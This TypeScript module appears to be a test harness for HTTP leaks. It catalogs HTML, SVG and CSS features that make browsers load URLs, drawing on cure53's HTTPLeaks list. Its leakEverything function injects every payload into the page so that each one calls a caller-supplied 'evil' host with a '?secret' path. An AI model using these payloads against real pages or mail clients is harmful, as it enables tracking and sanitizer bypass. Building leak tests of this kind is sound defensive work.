/**
 * Markup and styles from which some browser, at some time, has loaded something by itself. Which ones there are was learnt
 * from the technique list of cure53's HTTPLeaks; the tables and what is made of them are our own.
 */

/** Relations of `<link href>`. */
const relations: readonly string[] = [
  ...[
    'stylesheet',
    'alternate stylesheet',
    'icon',
    'shortcut icon',
    'apple-touch-icon',
    'apple-touch-icon-precomposed',
  ],
  ...['apple-touch-startup-image', 'mask-icon', 'fluid-icon', 'import', 'dns-prefetch', 'preconnect', 'prefetch'],
  ...[
    'preload',
    'modulepreload',
    'prerender',
    'subresource',
    'manifest',
    'search',
    'alternate',
    'amphtml',
    'canonical',
  ],
  ...['pingback', 'publisher', 'author', 'help', 'license', 'next', 'prev', 'first', 'last', 'start', 'up', 'index'],
  ...['contents', 'chapter', 'section', 'subsection', 'appendix', 'glossary', 'copyright', 'bookmark', 'archives'],
  ...['sidebar', 'tag', 'external', 'offline', 'P3Pv1', 'entry-content', 'feedurl', 'chrome-webstore-item', 'expect'],
  ...[
    'compression-dictionary',
    'privacy-policy',
    'terms-of-service',
    'webmention',
    'payment-method-manifest',
    'facilitated-payment',
  ],
];
/** What `<link rel="preload">` may be for. */
const preloads: readonly string[] = [
  'audio',
  'document',
  'embed',
  'fetch',
  'font',
  'image',
  'json',
  'object',
  'script',
  'style',
  'track',
  'video',
  'worker',
];

/** Names of `<meta>` whose content some browser fetches, or whose content is an address. */
const metas: readonly string[] = [
  ...[
    'msapplication-config',
    'msapplication-TileImage',
    'msapplication-square70x70logo',
    'msapplication-square150x150logo',
  ],
  ...[
    'msapplication-wide310x150logo',
    'msapplication-square310x310logo',
    'og:image',
    'og:video',
    'twitter:image',
    'al:web:url',
  ],
];

/** Elements, and the attributes of theirs that name something to load. */
const loading: Readonly<Record<string, readonly string[]>> = {
  img: ['src', 'srcset', 'lowsrc', 'dynsrc', 'longdesc', 'attributionsrc'],
  image: ['src', 'href', 'srcset'],
  input: ['src', 'formaction'],
  button: ['formaction'],
  video: ['src', 'poster'],
  audio: ['src'],
  bgsound: ['src'],
  object: ['data', 'codebase', 'classid', 'movie', 'archive'],
  embed: ['src', 'code', 'pluginspage'],
  applet: ['code', 'archive', 'codebase'],
  iframe: ['src', 'longdesc'],
  frame: ['src', 'longdesc'],
  fencedframe: ['src', 'config'],
  portal: ['src'],
  webview: ['src'],
  controlledframe: ['src'],
  body: ['background'],
  table: ['background'],
  td: ['background'],
  tr: ['background'],
  menuitem: ['icon'],
  command: ['icon'],
  isindex: ['src', 'action', 'formaction'],
  html: ['manifest'],
  head: ['profile'],
  blockquote: ['cite'],
  ins: ['cite'],
  param: ['value'],
  model: ['src'],
  layer: ['src', 'background'],
  ilayer: ['src', 'background'],
  xml: ['src'],
  import: ['implementation', 'src'],
  script: ['src', 'attributionsrc'],
};

/** Elements of SVG and MathML with an address, plain and in the xlink namespace. */
const vectors: readonly string[] = [
  ...[
    'image',
    'feImage',
    'use',
    'script',
    'pattern',
    'linearGradient',
    'radialGradient',
    'filter',
    'textPath',
    'mpath',
  ],
  ...['cursor', 'font-face-uri', 'tref', 'animate', 'set', 'altGlyph', 'color-profile', 'a', 'discard'],
];

/** Properties that take an address. */
const properties: readonly string[] = [
  ...[
    'background',
    'background-image',
    'list-style',
    'list-style-image',
    'border-image',
    'border-image-source',
    'cursor',
  ],
  ...['content', 'shape-outside', 'mask', 'mask-image', 'mask-border-source', 'filter', 'backdrop-filter', 'clip-path'],
  ...[
    'offset-path',
    'fill',
    'stroke',
    'marker',
    'marker-start',
    'marker-mid',
    'marker-end',
    'behavior',
    '-moz-binding',
  ],
  ...['-webkit-mask', '-webkit-mask-image', '-webkit-mask-box-image', '-webkit-border-image', '-webkit-filter', 'src'],
];

/** Ways of writing an address down in a style. */
const notations: Readonly<Record<string, (url: string) => string>> = {
  quoted: (url) => `url("${url}")`,
  bare: (url) => `url(${url})`,
  escaped: (url) => `\\75\\72\\6c("${url}")`,
  set: (url) => `image-set("${url}" 1x)`,
  prefixedSet: (url) => `-webkit-image-set(url("${url}") 1x)`,
  fade: (url) => `cross-fade(url("${url}"), url("${url}"))`,
  source: (url) => `src("${url}")`,
  modified: (url) => `url("${url}" crossorigin(anonymous))`,
};

const tag = (name: string, attribute: string, value: string): string => `<${name} ${attribute}="${value}"></${name}>`;

function* elements(at: (how: string) => string): Generator<string> {
  for (const rel of relations) yield `<link rel="${rel}" href="${at(`link-${rel.replaceAll(' ', '-')}`)}">`;
  for (const as of preloads) yield `<link rel="preload" as="${as}" href="${at(`preload-${as}`)}">`;
  yield `<link rel="preload" as="image" imagesrcset=",,,,${at('preload-srcset')} 1x">`;
  yield `<link rel="alternate" type="application/atom+xml" href="${at('link-atom')}">`;
  for (const name of metas)
    yield `<meta name="${name}" property="${name}" content="${at(`meta-${name.replaceAll(':', '-')}`)}">`;
  for (const [name, attributes] of Object.entries(loading)) {
    for (const attribute of attributes) {
      const type = name === 'input' ? 'input type="image"' : name;
      yield tag(type, attribute, attribute === 'srcset' ? `,,,${at(`${name}-srcset`)} 2x` : at(`${name}-${attribute}`));
    }
  }
  yield `<picture><source srcset="${at('source-srcset')}"><img></picture>`;
  yield `<video autoplay muted><source src="${at('video-source')}"><track default kind="subtitles" src="${at('track')}"></video>`;
  yield `<audio autoplay><source src="${at('audio-source')}"></audio>`;
  yield `<object><param name="movie" value="${at('param-movie')}"><embed src="${at('param-embed')}"></object>`;
  yield `<map name="leak"><area ping="${at('area-ping')}" href="#"></map><img usemap="#leak">`;
  yield `<iframe srcdoc="&lt;img src=${at('srcdoc-image')}&gt;&lt;link rel=stylesheet href=${at('srcdoc-style')}&gt;"></iframe>`;
  yield `<iframe src="data:text/html,<img src=${at('data-document')}>"></iframe>`;
  yield `<iframe src="view-source:${at('view-source')}"></iframe>`;
  yield `<template shadowrootmode="open"><img src="${at('template')}"></template><noscript><img src="${at('noscript')}"></noscript>`;
  for (const name of vectors) {
    yield `<svg>${tag(name, 'href', at(`svg-${name}`))}${tag(name, 'xlink:href', at(`xlink-${name}`))}</svg>`;
  }
  yield `<svg><style>circle{fill:url(${at('svg-style')}#x)}</style><circle r="9"/></svg>`;
  yield `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('data-svg')}"/></svg>`)}">`;
  yield `<math><annotation-xml encoding="text/html"><img src="${at('math')}"></annotation-xml></math>`;
}

function* styles(at: (how: string) => string): Generator<string> {
  yield `@import "${at('import-text')}";`;
  yield `@import url(${at('import-url')});`;
  yield `@import url(${at('import-layer')}) layer(x) supports(display: block);`;
  yield `@namespace url(${at('namespace')});`;
  yield `@font-face{font-family:leak;src:url(${at('font')}) format("woff2"),url(${at('font-two')})}*{font-family:leak}`;
  yield `@font-face{font-family:range;src:url(${at('font-range')});unicode-range:U+41-5A}p{font-family:range}`;
  yield `@counter-style leak{system:cyclic;symbols:url(${at('counter')})}ol{list-style:leak}`;
  for (const property of properties) {
    for (const [name, write] of Object.entries(notations)) {
      const element = `x-${property}-${name}`.toLowerCase();
      yield `${element}{display:block;${property}:${write(at(`${property}-${name}`))}}`;
      yield `${element}::before{content:"x";${property}:${write(at(`before-${property}-${name}`))}}`;
    }
  }
  yield `i{--leak:url(${at('variable')});background:var(--leak)}`;
  yield `i[leak]{background:attr(leak url)}i::after{content:attr(none url,url(${at('attr-fallback')}))}`;
  yield `@property --p{syntax:"<image>";inherits:false;initial-value:url(${at('property')})}i{background:var(--p)}`;
  yield `::view-transition{background:url(${at('transition')})}::marker{content:url(${at('marker-content')})}`;
  yield `@page{background:url(${at('page')})}@media print{html{background:url(${at('print')})}}`;
}

/** Puts it all into this document; returns how many techniques that were. */
export function leakEverything(evil: string, into: string): number {
  const at = (how: string): string => `${evil}/${into}/${how}?secret`;
  const markup = [...elements(at)];
  const rules = [...styles(at)];
  for (const html of markup) document.body.insertAdjacentHTML('beforeend', html);
  for (const rule of rules) document.head.append(Object.assign(document.createElement('style'), { textContent: rule }));
  for (const property of properties) {
    for (const [name, write] of Object.entries(notations)) {
      const element = document.createElement(`x-${property}-${name}`.toLowerCase());
      element.textContent = 'ABC';
      element.style.setProperty(property, write(at(`inline-${property}-${name}`)));
      document.body.append(element);
    }
  }
  document.body.insertAdjacentHTML('beforeend', '<p>ABC</p><ol><li>x</ol><i leak="x">x</i>');
  return markup.length + rules.length + properties.length * Object.keys(notations).length;
}
